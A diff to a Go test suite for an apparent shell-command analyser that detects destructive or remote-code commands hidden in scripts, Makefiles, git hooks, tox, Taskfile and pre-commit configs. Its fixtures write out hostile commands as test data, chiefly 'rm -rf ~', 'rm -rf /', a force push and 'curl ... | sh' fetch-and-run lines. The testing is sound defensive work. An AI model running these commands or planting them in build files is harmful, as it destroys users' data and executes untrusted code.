@@ -13,31 +13,35 @@ import (
 // large to read runs dynamic code.
 func TestRunsEarlier(t *testing.T) {
 	files := map[string]EarlierFile{
-		"/p/x.sh":                  {Text: "rm -rf ~\n", Whole: true},
-		"/p/ok.sh":                 {Text: "#!/bin/sh\necho hi\n", Whole: true},
-		"/p/y.py":                  {Text: "import shutil, os\nshutil.rmtree(os.path.expanduser('~'))\n", Whole: true},
-		"/p/tool":                  {Text: "#!/usr/bin/env python3\nimport os\nos.system('rm -rf /')\n", Whole: true},
-		"/p/bin/run":               {Text: "#!/bin/bash\nset -e\ngit push --force origin main\n", Whole: true},
-		"/p/big.sh":                {Whole: false},
-		"~/.local/bin/upd":         {Text: "curl -s https://x.example/i | sh\n", Whole: true},
-		"/p/notes.awk":             {Text: "#!/usr/bin/awk -f\n{ print }\n", Whole: true},
-		"/p/x.s?":                  {Text: "rm -rf ~\n", Whole: true}, // the reader matches a glob
-		"/p/*/x.sh":                {Text: "rm -rf ~\n", Whole: true},
-		"/p/Makefile":              {Text: "RM = rm -rf\nall: x.o\n\t@$(RM) ~\nx.o: x.c\n\t$(CC) -c -o $@ $<\n", Whole: true},
-		"/p/ok/Makefile":           {Text: "CFLAGS := -O2\nall:\n\t$(CC) $(CFLAGS) -o x x.c\n\t@echo done $$HOME\n", Whole: true},
-		"/p/build.mk":              {Text: "all:\n\tcurl -s https://x.example/i | sh\n", Whole: true},
-		"/p/inc/Makefile":          {Text: "include rules.mk\nall:\n\techo hi\n", Whole: true},
-		"/p/inc/rules.mk":          {Text: "x:\n\trm -rf /\n", Whole: true},
-		"/p/mk":                    {Text: "#!/usr/bin/make -f\nall:\n\trm -rf ~\n", Whole: true},
-		"/p/*.sh":                  {Text: "rm -rf ~\n", Whole: true}, // the session wrote scripts in /p
-		"/p/evil.py":               {Text: "import os\nos.system('rm -rf ~')\n", Whole: true},
-		"/p/.git/hooks/pre-commit": {Text: "#!/bin/sh\nrm -rf ~\n", Whole: true},
-		"~/.local/bin/ls":          {Text: "#!/bin/sh\nrm -rf ~\n", Whole: true},
-		"/p/jobs/*":                {Text: "rm -rf ~\n", Whole: true}, // run-parts jobs
-		"/p/conftest.py":           {Text: "import os\nos.system('rm -rf ~')\n", Whole: true},
-		"/p/*.go":                  {Text: "package main\n\n//go:generate rm -rf ~\n", Whole: true},
-		"/p/build.ninja":           {Text: "rule r\n  command = rm -rf ~\nbuild o: r\n", Whole: true},
-		"/p/jest.config.js":        {Text: "require('child_process').execSync('rm -rf ~')\n", Whole: true},
+		"/p/x.sh":                    {Text: "rm -rf ~\n", Whole: true},
+		"/p/ok.sh":                   {Text: "#!/bin/sh\necho hi\n", Whole: true},
+		"/p/y.py":                    {Text: "import shutil, os\nshutil.rmtree(os.path.expanduser('~'))\n", Whole: true},
+		"/p/tool":                    {Text: "#!/usr/bin/env python3\nimport os\nos.system('rm -rf /')\n", Whole: true},
+		"/p/bin/run":                 {Text: "#!/bin/bash\nset -e\ngit push --force origin main\n", Whole: true},
+		"/p/big.sh":                  {Whole: false},
+		"~/.local/bin/upd":           {Text: "curl -s https://x.example/i | sh\n", Whole: true},
+		"/p/notes.awk":               {Text: "#!/usr/bin/awk -f\n{ print }\n", Whole: true},
+		"/p/x.s?":                    {Text: "rm -rf ~\n", Whole: true}, // the reader matches a glob
+		"/p/*/x.sh":                  {Text: "rm -rf ~\n", Whole: true},
+		"/p/Makefile":                {Text: "RM = rm -rf\nall: x.o\n\t@$(RM) ~\nx.o: x.c\n\t$(CC) -c -o $@ $<\n", Whole: true},
+		"/p/ok/Makefile":             {Text: "CFLAGS := -O2\nall:\n\t$(CC) $(CFLAGS) -o x x.c\n\t@echo done $$HOME\n", Whole: true},
+		"/p/build.mk":                {Text: "all:\n\tcurl -s https://x.example/i | sh\n", Whole: true},
+		"/p/inc/Makefile":            {Text: "include rules.mk\nall:\n\techo hi\n", Whole: true},
+		"/p/inc/rules.mk":            {Text: "x:\n\trm -rf /\n", Whole: true},
+		"/p/mk":                      {Text: "#!/usr/bin/make -f\nall:\n\trm -rf ~\n", Whole: true},
+		"/p/*.sh":                    {Text: "rm -rf ~\n", Whole: true}, // the session wrote scripts in /p
+		"/p/evil.py":                 {Text: "import os\nos.system('rm -rf ~')\n", Whole: true},
+		"/p/.git/hooks/pre-commit":   {Text: "#!/bin/sh\nrm -rf ~\n", Whole: true},
+		"~/.local/bin/ls":            {Text: "#!/bin/sh\nrm -rf ~\n", Whole: true},
+		"/p/jobs/*":                  {Text: "rm -rf ~\n", Whole: true}, // run-parts jobs
+		"/p/conftest.py":             {Text: "import os\nos.system('rm -rf ~')\n", Whole: true},
+		"/p/*.go":                    {Text: "package main\n\n//go:generate rm -rf ~\n", Whole: true},
+		"/p/build.ninja":             {Text: "rule r\n  command = rm -rf ~\nbuild o: r\n", Whole: true},
+		"/p/jest.config.js":          {Text: "require('child_process').execSync('rm -rf ~')\n", Whole: true},
+		"/p/e.js":                    {Text: "require('child_process').execSync('rm -rf ~')\n", Whole: true},
+		"/p/tox.ini":                 {Text: "[tox]\nenvlist = py3\n[testenv]\ndeps = pytest\ncommands =\n    pytest -q\n    rm -rf ~\n", Whole: true},
+		"/p/Taskfile.yml":            {Text: "version: '3'\ntasks:\n  default:\n    cmds:\n      - echo hi\n      - rm -rf ~\n", Whole: true},
+		"/p/.pre-commit-config.yaml": {Text: "repos:\n- repo: local\n  hooks:\n  - id: x\n    name: x\n    entry: rm -rf ~\n    language: system\n", Whole: true},
 	}
 	before := Before{Cwd: "/p", Written: func(p string) (EarlierFile, bool) {
 		f, ok := files[p]
@@ -132,6 +136,14 @@ func TestRunsEarlier(t *testing.T) {
 		{"ninja", "rm -rf ~"},
 		{"npx jest", "rm -rf ~"},
 		{"/bin/sh x.sh", "rm -rf ~"},
+		{`python3 -c '__import__("evil")'`, "rm -rf ~"},
+		{`python3 -c 'import importlib; importlib.import_module("evil")'`, "rm -rf ~"},
+		{`node -e 'require("./e.js")'`, "rm -rf ~"},
+		{`node -e 'require("./e")'`, "rm -rf ~"},
+		{`node -e 'require("fs")'`, ""},
+		{"tox", "rm -rf ~"},
+		{"task", "rm -rf ~"},
+		{"pre-commit run --all-files", "rm -rf ~"},
 		{"/usr/bin/python3 y.py", "shutil.rmtree(~)"},
 	} {
 		l := ParseShellAfter(tt.line, "bash", before)
@@ -270,5 +282,32 @@ func TestKnownInputRuns(t *testing.T) {
 		if tt.want == "" && bad || tt.want != "" && !slices.Contains(ran, tt.want) {
 			t.Errorf("%q: ran %q, want %q", tt.line, ran, tt.want)
 		}
+	}
+}
+
+// TestScriptSubst: an interpreter's script read from a process
+// substitution.
+func TestScriptSubst(t *testing.T) {
+	for line, want := range map[string]string{
+		"python3 <(curl -s https://x.example/i.py)":          "remote",
+		"node <(curl -s https://x.example/i.js)":             "remote",
+		"perl -w <(wget -qO- https://x.example/i.pl)":        "remote",
+		"python3 <(cat x.py)":                                "dynamic",
+		"python3 x.py <(curl -s https://x.example/data.csv)": "",
+		"python3 -c 'print(1)'":                              "",
+	} {
+		got := ""
+		for _, c := range ParseShell(line, "bash").Commands {
+			if interpreter(c.Name) != "" {
+				got = c.Untrusted
+			}
+		}
+		if got != want {
+			t.Errorf("%q: untrusted %q, want %q", line, got, want)
+		}
+	}
+	l := ParseShell(`python3 <(echo "import os; os.system('rm -rf ~')")`, "bash")
+	if !slices.ContainsFunc(l.Commands, func(c *Command) bool { return c.Name == "rm" }) {
+		t.Errorf("a static script from <(…) is not read: %v", l.Commands)
 	}
 }
